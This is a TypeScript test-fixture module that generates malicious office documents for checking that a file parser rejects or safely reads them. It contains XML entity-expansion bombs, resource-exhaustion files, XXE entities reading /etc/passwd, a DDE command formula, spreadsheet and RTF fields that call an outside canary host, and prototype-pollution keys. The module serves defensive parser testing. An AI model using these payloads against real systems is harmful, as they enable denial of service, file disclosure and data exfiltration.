import { type HostileFile, latin1, MiB } from './hostile-file.ts'
import { type ForgedEntry, writeZip } from './write-zip.ts'

const xmlHead = '<?xml version="1.0" encoding="UTF-8"?>'
const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packageRelations = 'http://schemas.openxmlformats.org/package/2006/relationships'
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

const contentTypes = `${xmlHead}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

function relationsTo(
  targets: readonly (readonly [type: string, target: string, isExternal?: boolean])[],
): string {
  const list = targets.map(
    ([type, target, isExternal], index) =>
      `<Relationship Id="rId${index + 1}" Type="${relations}/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`,
  )
  return `${xmlHead}<Relationships xmlns="${packageRelations}">${list.join('')}</Relationships>`
}

interface Workbook {
  readonly sheets?: readonly string[]
  readonly strings?: string
  readonly others?: readonly ForgedEntry[]
  /** Between the XML declaration and the first sheet's root. */
  readonly prologue?: string
}

function workbook({ sheets = ['<sheetData/>'], strings, others = [], prologue = '' }: Workbook): Buffer {
  const list = sheets.map(
    (_, index) => `<sheet name="S${index + 1}" sheetId="${index + 1}" r:id="rId${index + 1}"/>`,
  )
  return writeZip([
    { name: '[Content_Types].xml', content: contentTypes },
    { name: '_rels/.rels', content: relationsTo([['officeDocument', 'xl/workbook.xml']]) },
    {
      name: 'xl/workbook.xml',
      content: `${xmlHead}<workbook ${main} xmlns:r="${relations}"><sheets>${list.join('')}</sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: relationsTo([
        ...sheets.map((_, index) => ['worksheet', `worksheets/sheet${index + 1}.xml`] as const),
        ['sharedStrings', 'sharedStrings.xml'],
      ]),
    },
    ...sheets.map((sheet, index) => ({
      name: `xl/worksheets/sheet${index + 1}.xml`,
      content: `${xmlHead}${index === 0 ? prologue : ''}<worksheet ${main}>${sheet}</worksheet>`,
    })),
    ...(strings === undefined ? [] : [{ name: 'xl/sharedStrings.xml', content: strings }]),
    ...others,
  ])
}

function document(
  body: string,
  options: { prologue?: string; others?: readonly ForgedEntry[] } = {},
): Buffer {
  return writeZip([
    { name: '[Content_Types].xml', content: contentTypes },
    { name: '_rels/.rels', content: relationsTo([['officeDocument', 'word/document.xml']]) },
    {
      name: 'word/document.xml',
      content: `${xmlHead}${options.prologue ?? ''}<w:document ${word}><w:body>${body}</w:body></w:document>`,
    },
    ...(options.others ?? []),
  ])
}

const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
const cell = (address: string, text: string): string =>
  `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`
const row = (number: number, cells: string): string => `<row r="${number}">${cells}</row>`
const data = (rows: string): string => `<sheetData>${rows}</sheetData>`

/** Each entity ten of the one before. */
function laughs(root: string): string {
  const entities = Array.from({ length: 10 }, (_, level) =>
    level === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
  )
  return `<!DOCTYPE ${root} [${entities.join('')}]>`
}

const external = (root: string, canary: string): string =>
  `<!DOCTYPE ${root} SYSTEM "${canary}/outside.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${canary}/entity">]>`

function openDocument(kind: 'text' | 'spreadsheet', body: string): Buffer {
  const names = ['office', 'text', 'table'].map(
    (name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`,
  )
  return writeZip([
    { name: 'mimetype', content: `application/vnd.oasis.opendocument.${kind}`, isStored: true },
    { name: 'styles.xml', content: `${xmlHead}<office:document-styles/>` },
    {
      name: 'META-INF/manifest.xml',
      content: `${xmlHead}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`,
    },
    {
      name: 'content.xml',
      content: `${xmlHead}<office:document-content ${names.join(' ')}><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    },
  ])
}

/** Workbooks, Word files, slides, OpenDocument and rich text that do harm to whoever trusts them. */
export const officeFiles: readonly HostileFile[] = [
  {
    name: 'one-string-a-thousand-times.xlsx',
    ends: 'refused',
    codes: ['limit_exceeded'],
    make: () =>
      workbook({
        sheets: [
          data(
            Array.from({ length: 3_000 }, (_, index) =>
              row(
                index + 1,
                `<c r="A${index + 1}" t="s"><v>0</v></c><c r="B${index + 1}" t="s"><v>0</v></c>`,
              ),
            ).join(''),
          ),
        ],
        strings: `${xmlHead}<sst ${main} count="1" uniqueCount="1"><si><t>${'word '.repeat(200_000)}</t></si></sst>`,
      }),
  },
  {
    name: 'strings-bomb.xlsx',
    ends: 'refused',
    codes: ['limit_exceeded'],
    make: () =>
      workbook({ strings: `${xmlHead}<sst ${main}>${'<si><t>a</t></si>'.repeat((20 * MiB) / 16)}</sst>` }),
  },
  {
    name: 'sheet-that-says-it-is-endless.xlsx',
    ends: 'read',
    make: () =>
      workbook({ sheets: [`<dimension ref="A1:XFD1048576"/>${data(row(1, cell('A1', 'Turnover')))}`] }),
  },
  {
    name: 'two-cells-far-apart.xlsx',
    ends: 'either',
    make: () =>
      workbook({ sheets: [data(row(1, cell('A1', 'first')) + row(1_048_576, cell('XFD1048576', 'last')))] }),
  },
  {
    name: 'row-number-past-the-end.xlsx',
    ends: 'either',
    make: () => workbook({ sheets: [data(row(2_000_000_000, cell('A2000000000', 'beyond')))] }),
  },
  {
    name: 'a-row-of-many-cells.xlsx',
    ends: 'either',
    make: () => workbook({ sheets: [data(row(1, '<c><v>1</v></c>'.repeat(600_000)))] }),
  },
  {
    name: 'nine-hundred-sheets.xlsx',
    ends: 'either',
    make: () => workbook({ sheets: Array.from({ length: 900 }, () => data(row(1, cell('A1', 'x')))) }),
  },
  {
    name: 'merged-a-hundred-thousand-times.xlsx',
    ends: 'either',
    make: () =>
      workbook({
        sheets: [
          `${data(row(1, cell('A1', 'x')))}<mergeCells>${Array.from({ length: 100_000 }, (_, index) => `<mergeCell ref="A${index + 1}:XFD1048576"/>`).join('')}</mergeCells>`,
        ],
      }),
  },
  {
    name: 'columns-without-end.xlsx',
    ends: 'either',
    make: () =>
      workbook({
        sheets: [
          `<cols>${'<col min="1" max="2000000000" hidden="1"/>'.repeat(1_000)}</cols>${data(row(1, cell('A1', 'x')))}`,
        ],
      }),
  },
  {
    name: 'laughs.xlsx',
    ends: 'refused',
    codes: ['limit_exceeded'],
    make: () => workbook({ strings: `${xmlHead}${laughs('sst')}<sst ${main}><si><t>&l9;</t></si></sst>` }),
  },
  {
    name: 'laughs-behind-a-long-comment.xlsx',
    ends: 'refused',
    codes: ['limit_exceeded'],
    make: () =>
      workbook({
        strings: `${xmlHead}<!--${'-'.repeat(9_000)}-->${laughs('sst')}<sst ${main}><si><t>&l9;</t></si></sst>`,
      }),
  },
  {
    name: 'entity-from-outside.xlsx',
    ends: 'refused',
    make: (canary) =>
      workbook({ prologue: external('worksheet', canary), sheets: [data(row(1, cell('A1', '&x;&y;')))] }),
  },
  {
    name: 'formulas-that-call.xlsx',
    ends: 'read',
    make: (canary) =>
      workbook({
        sheets: [
          data(
            [
              `WEBSERVICE("${canary}/f")`,
              `HYPERLINK("${canary}/h","click")`,
              `cmd|'/c calc'!A0`,
              `IMAGE("${canary}/i")`,
            ]
              .map((formula, index) =>
                row(
                  index + 1,
                  `<c r="A${index + 1}" t="str"><f>${formula.replaceAll('"', '&quot;')}</f><v>shown ${index}</v></c>`,
                ),
              )
              .join(''),
          ),
        ],
      }),
  },
  {
    name: 'links-to-another-workbook.xlsx',
    ends: 'read',
    make: (canary) =>
      workbook({
        sheets: [data(row(1, cell('A1', 'x')))],
        others: [
          {
            name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
            content: relationsTo([['externalLinkPath', `${canary}/book.xlsx`, true]]),
          },
        ],
      }),
  },
  {
    name: 'names-of-the-language.xlsx',
    ends: 'read',
    make: () =>
      workbook({
        sheets: [
          data(
            row(1, cell('A1', '__proto__') + cell('B1', 'constructor') + cell('C1', 'toString')) +
              row(2, cell('A2', '{"polluted":true}') + cell('B2', 'prototype') + cell('C2', '1')),
          ),
        ],
      }),
  },
  { name: 'workbook-that-is-cut.xlsx', ends: 'refused', make: () => workbook({}).subarray(0, 700) },
  {
    name: 'laughs.docx',
    ends: 'refused',
    codes: ['limit_exceeded'],
    make: () => document(paragraph('&l9;'), { prologue: laughs('w:document') }),
  },
  {
    name: 'entity-from-outside.docx',
    ends: 'refused',
    make: (canary) => document(paragraph('&x;&y;'), { prologue: external('w:document', canary) }),
  },
  {
    name: 'template-from-outside.docx',
    ends: 'read',
    make: (canary) =>
      document(paragraph('Turnover: 1'), {
        others: [
          {
            name: 'word/_rels/document.xml.rels',
            content: relationsTo([
              ['image', `${canary}/image.png`, true],
              ['subDocument', `${canary}/part.docx`, true],
              ['hyperlink', 'file:///etc/passwd', true],
            ]),
          },
          {
            name: 'word/_rels/settings.xml.rels',
            content: relationsTo([['attachedTemplate', `${canary}/template.dotm`, true]]),
          },
        ],
      }),
  },
  {
    name: 'tags-in-tags.docx',
    ends: 'refused',
    codes: ['limit_exceeded'],
    make: () => document('<w:p>'.repeat(100_000)),
  },
  {
    name: 'tables-in-tables.docx',
    ends: 'refused',
    make: () => document('<w:tbl><w:tr><w:tc>'.repeat(5_000)),
  },
  {
    name: 'cell-over-a-billion-columns.docx',
    ends: 'read',
    make: () =>
      document(
        `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>${paragraph('Turnover')}</w:tc><w:tc>${paragraph('1')}</w:tc></w:tr></w:tbl>`,
      ),
  },
  {
    name: 'a-million-paragraphs.docx',
    ends: 'either',
    make: () => document(Array.from({ length: 60_000 }, (_, index) => paragraph(`line ${index}`)).join('')),
  },
  {
    name: 'slides-in-slides.pptx',
    ends: 'refused',
    make: () =>
      writeZip([
        { name: '[Content_Types].xml', content: contentTypes },
        { name: 'ppt/presentation.xml', content: '<p:presentation/>' },
        { name: 'ppt/slides/slide1.xml', content: `<p:sld>${'<a:p>'.repeat(50_000)}` },
      ]),
  },
  {
    name: 'rows-repeated-without-end.ods',
    ends: 'either',
    make: () =>
      openDocument(
        'spreadsheet',
        '<table:table table:name="S"><table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
      ),
  },
  {
    name: 'one-cell-a-billion-times.ods',
    ends: 'refused',
    make: () =>
      openDocument(
        'spreadsheet',
        '<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
      ),
  },
  {
    name: 'empty-to-the-end-of-the-sheet.ods',
    ends: 'read',
    make: () =>
      openDocument(
        'spreadsheet',
        '<table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>Turnover</text:p></table:table-cell><table:table-cell table:number-columns-repeated="16383"/></table:table-row><table:table-row table:number-rows-repeated="1048575"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>',
      ),
  },
  {
    name: 'spaces-without-end.odt',
    ends: 'read',
    make: () => openDocument('text', '<text:p>Turnover<text:s text:c="2000000000"/>1</text:p>'),
  },
  {
    name: 'laughs.odt',
    ends: 'refused',
    make: () =>
      writeZip([
        { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', isStored: true },
        { name: 'content.xml', content: `${xmlHead}${laughs('x')}<x>&l9;</x>` },
      ]),
  },
  { name: 'groups-in-groups.rtf', ends: 'refused', make: () => latin1(`{\\rtf1 ${'{'.repeat(1_000_000)}`) },
  { name: 'skips-without-end.rtf', ends: 'either', make: () => latin1('{\\rtf1 a\\bin2147483647 b}') },
  {
    name: 'object-from-outside.rtf',
    ends: 'read',
    make: (canary) =>
      latin1(
        `{\\rtf1 {\\*\\template ${canary}/t}{\\field{\\*\\fldinst INCLUDEPICTURE "${canary}/p"}{\\fldrslt shown}}}`,
      ),
  },
]
